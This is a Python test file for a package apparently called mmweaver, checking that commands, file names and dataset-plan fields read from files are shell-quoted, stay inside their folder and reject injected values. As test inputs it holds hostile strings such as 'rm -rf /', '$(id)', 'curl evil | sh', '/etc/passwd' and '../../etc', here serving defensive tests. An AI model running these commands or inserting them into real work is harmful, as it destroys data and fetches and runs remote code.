"""Names and commands that a file holds are words: no path outside its folder, no second command, no formula."""

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
from matplotlib.figure import Figure
from matplotlib.pyplot import rc_context

from mmweaver.core.checksums import FIRST_LINE, SUMS_FILE, read_sums
from mmweaver.core.errors import InputError
from mmweaver.datasets.activity_store import read_activity_set
from mmweaver.datasets.dataset_plan import DatasetPlan, check_plan, shell_words
from mmweaver.datasets.dataset_store import read_rooms
from mmweaver.datasets.verification import verify
from mmweaver.viz.theme import STYLE

ATTACK = "mmweaver dataset set; rm -rf /tmp/x $(id) `id` | sh"
SUM = "0" * 64


def test_a_command_in_a_file_is_one_command():
    words = shlex.split(shell_words(ATTACK))
    assert words[:3] == ["mmweaver", "dataset", "set;"]
    assert ";" not in shell_words(ATTACK).replace("'set;'", "")
    with pytest.raises(ValueError, match="closing quotation"):
        shell_words("mmweaver 'dataset")


def test_what_a_labelled_set_says_made_it_is_quoted(tmp_path: Path):
    (tmp_path / "set.json").write_text(json.dumps({"command": ATTACK}))
    with pytest.raises(InputError, match="'set;' rm"):
        read_activity_set(tmp_path)
    (found,) = verify(tmp_path).commands
    assert "'set;'" in found
    (tmp_path / "set.json").write_text(json.dumps({"command": "curl evil | sh"}))
    with pytest.raises(InputError, match=r"mmweaver dataset$"):
        read_activity_set(tmp_path)


@pytest.mark.parametrize("command", ["rm -rf /; true", "$(id)", 3, ["generate"], {}])
def test_verify_names_only_commands_that_there_are(tmp_path: Path, command: Any):
    (tmp_path / "request.toml").write_text(f"command = {json.dumps(command)}\n" if command != {} else "")
    (tmp_path / "a").write_bytes(b"changed")
    (tmp_path / SUMS_FILE).write_text(f"{FIRST_LINE}\n{SUM}  a\n")
    (said,) = verify(tmp_path).commands
    assert said.startswith("the command that made")


@pytest.mark.parametrize("name", ["../a", "b/../../a", "/etc/passwd", ".."])
def test_sums_stay_inside_their_folder(tmp_path: Path, name: str):
    (tmp_path / SUMS_FILE).write_text(f"{FIRST_LINE}\n{SUM}  {name}\n")
    with pytest.raises(InputError, match="SHA256SUMS"):
        read_sums(tmp_path)


PLAN = json.loads(DatasetPlan(kinds=("office",), lightings=("day",)).to_json())


@pytest.mark.parametrize(
    "change",
    [{"kinds": ["../../etc"]}, {"kinds": ["a/b"]}, {"kinds": "office"}, {"kinds": [3]}, {"num_layouts": "1; rm"},
     {"num_layouts": 10**12}, {"num_layouts": True}, {"seed": "0; rm"}, {"radar": None}, {"num_frames": 0}],
)  # fmt: skip
def test_a_plan_lists_rooms_of_its_own_folder_alone(tmp_path: Path, change: dict[str, Any]):
    assert check_plan(PLAN, tmp_path) == PLAN
    (tmp_path / "plan.json").write_text(json.dumps({**PLAN, **change}))
    with pytest.raises(InputError, match=r"plan\.json"):
        read_rooms(tmp_path)
    assert not verify(tmp_path).is_sound or verify(tmp_path).unchecked


def test_a_formula_in_a_name_is_drawn_as_it_is():
    with rc_context(STYLE):
        figure = Figure()
        figure.suptitle("a radar called $\\foo$")
        figure.canvas.draw()
